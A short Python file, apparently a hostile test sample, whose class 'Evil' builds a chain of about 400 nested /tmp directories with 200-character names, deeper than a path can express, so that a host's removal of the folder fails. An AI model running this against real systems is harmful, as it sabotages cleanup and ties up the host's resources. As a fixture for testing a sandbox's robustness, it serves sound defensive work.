"""Folders in one another, deeper than a path can say, in a folder that the host removes."""

import os


class Evil:
    def process(self, item):
        os.mkdir("/tmp/0")
        for depth in range(1, 400):
            os.mkdir(f"/tmp/{depth}")
            os.rename(f"/tmp/{depth - 1}", f"/tmp/{depth}/{'d' * 200}")
        return os.listdir("/tmp")
